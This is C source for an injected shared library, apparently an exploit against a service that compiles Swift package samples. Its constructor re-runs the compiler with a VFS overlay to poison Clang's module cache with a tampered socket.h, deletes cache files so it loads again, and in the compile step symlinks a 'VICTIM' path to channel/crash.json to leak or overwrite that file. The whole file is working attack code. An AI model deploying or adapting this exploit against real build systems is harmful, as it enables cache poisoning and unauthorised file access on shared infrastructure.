// A library that the compiler of the package's samples is made to load.
#define _GNU_SOURCE
#include <glob.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static char folder[4096], words[1 << 16], cache[4096];

// Lets the next call of the compiler load this library again.
static void forget(void) {
  glob_t found;
  if (glob(strcat(cache, "/{Bait,Zoo}-*"), GLOB_BRACE, NULL, &found)) return;
  for (size_t i = 0; i < found.gl_pathc; i++) unlink(found.gl_pathv[i]);
}

// Makes Clang's module of the C library from the changed header, in the cache that this call of the
// compiler can write to.
static void poison(void) {
  if (system("cp " BAIT "/socket.h /tmp && touch -r " HEADER " /tmp/socket.h")) return;
  FILE *file = fopen("/proc/self/cmdline", "r");
  size_t size = fread(words, 1, sizeof words - 1, file);
  char *arguments[512];
  int count = 0;
  for (char *word = words; word < words + size; word += strlen(word) + 1) {
    const char *before = count ? arguments[count - 1] : "";
    if (!strcmp(before, "-module-cache-path")) strcpy(cache, word);
    arguments[count++] = !strcmp(word, "main.swift") ? BAIT "/glibc.swift"
                         : !strcmp(before, "-o")     ? "/tmp/glibc.o"
                                                     : word;
  }
  arguments[count++] = "-vfsoverlay";
  arguments[count++] = BAIT "/overlay.yaml";
  arguments[count] = NULL;
  pid_t child = fork();
  if (!child) {
    execv("/proc/self/exe", arguments);
    _exit(1);
  }
  waitpid(child, NULL, 0);
}

__attribute__((constructor)) static void load(void) {
  if (!getcwd(folder, sizeof folder)) return;
  if (strstr(folder, "/imports-")) {
    // The call that fills the cache.
    poison();
    atexit(forget);
  } else if (strstr(folder, "/program-")) {
    // The call that compiles the sample.
    fprintf(stderr, "main.swift:1:1: warning: the library is loaded\n");
    mkdir("channel", 0777);
    symlink(VICTIM, "channel/crash.json");
  }
}
